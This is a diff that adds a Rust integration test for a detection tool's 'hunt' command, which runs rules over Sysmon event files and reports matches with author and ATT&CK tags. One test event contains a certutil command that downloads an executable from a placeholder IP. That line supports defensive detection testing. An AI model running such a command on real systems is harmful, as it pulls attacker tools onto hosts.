@@ -907,3 +907,48 @@ fn rules_test_shows_which_events_of_a_file_match_and_why() {
     assert!(out.contains("matched by selection"), "{out}");
     assert!(out.contains("author: Ward tests"), "{out}");
 }
+
+#[test]
+fn hunt_runs_rules_over_files_without_storing_and_names_each_rules_author() {
+    let ward = Ward::new();
+    let rules = ward.dir.path().join("hunt-rules");
+    std::fs::create_dir_all(&rules).unwrap();
+    std::fs::write(rules.join("certutil.yml"), RULE_CERTUTIL).unwrap();
+    std::fs::write(rules.join("broken.yml"), "title: [unclosed").unwrap();
+    let events = ward.file(
+        "hunt.ndjson",
+        br#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws7","TimeCreated":"2026-11-02T10:00:00Z","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://203.0.113.5/a.exe a.exe","User":"WGH\\jdoe"}
+{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws7","TimeCreated":"2026-11-02T10:01:00Z","Image":"C:\\Windows\\notepad.exe","CommandLine":"notepad"}
+"#,
+    );
+    let out = ward.run(&[
+        "hunt",
+        "--json",
+        rules.to_str().unwrap(),
+        events.to_str().unwrap(),
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let lines: Vec<Value> = String::from_utf8(out.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 1);
+    assert_eq!(lines[0]["rule_id"], "11111111-2222-3333-4444-555555555555");
+    assert_eq!(lines[0]["author"], "Ward tests");
+    assert_eq!(lines[0]["attack"], serde_json::json!(["T1105"]));
+    assert_eq!(lines[0]["event"]["device"]["hostname"], "ws7");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("broken.yml") && stderr.contains("1 not loaded"),
+        "{stderr}"
+    );
+    assert!(
+        !ward.data_dir().join("ward.db").exists(),
+        "hunting stores nothing"
+    );
+}
